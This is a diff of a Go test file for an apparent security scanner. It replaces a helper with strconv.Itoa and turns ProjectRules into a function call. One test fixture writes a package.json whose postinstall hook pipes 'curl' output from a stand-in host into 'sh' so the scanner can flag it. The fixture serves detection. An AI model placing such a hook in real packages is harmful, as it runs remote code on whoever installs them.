@@ -10,6 +10,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -21,18 +22,18 @@ func TestCatalogShape(t *testing.T) {
 	}
 	want := []string{}
 	for i := 1; i <= 9; i++ {
-		want = append(want, "ENV00"+itoa(i))
+		want = append(want, "ENV00"+strconv.Itoa(i))
 	}
 	for i := 1; i <= 8; i++ {
-		want = append(want, "FS00"+itoa(i))
+		want = append(want, "FS00"+strconv.Itoa(i))
 	}
 	for i := 1; i <= 4; i++ {
-		want = append(want, "NET00"+itoa(i))
+		want = append(want, "NET00"+strconv.Itoa(i))
 	}
 	for i := 0; i <= 16; i++ {
-		id := "DEP0" + itoa(i)
+		id := "DEP0" + strconv.Itoa(i)
 		if i < 10 {
-			id = "DEP00" + itoa(i)
+			id = "DEP00" + strconv.Itoa(i)
 		}
 		want = append(want, id)
 	}
@@ -527,7 +528,7 @@ func TestSARIFFileOutsideProject(t *testing.T) {
 func TestProjectRulesOnStagedTree(t *testing.T) {
 	staged := copyProject(t, "fs008-agent-hooks")
 	writeFile(t, filepath.Join(staged, "package.json"), `{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -fsSL https://x.invalid/i | sh"}}`)
-	opts := Options{Env: fixtureEnv(t, "exposed"), Project: staged, Profile: ProfileDependency, Rules: ProjectRules}
+	opts := Options{Env: fixtureEnv(t, "exposed"), Project: staged, Profile: ProfileDependency, Rules: ProjectRules()}
 	if got := len(RulesFor(opts)); got != 19 {
 		t.Fatalf("%d project rules, want 19", got)
 	}
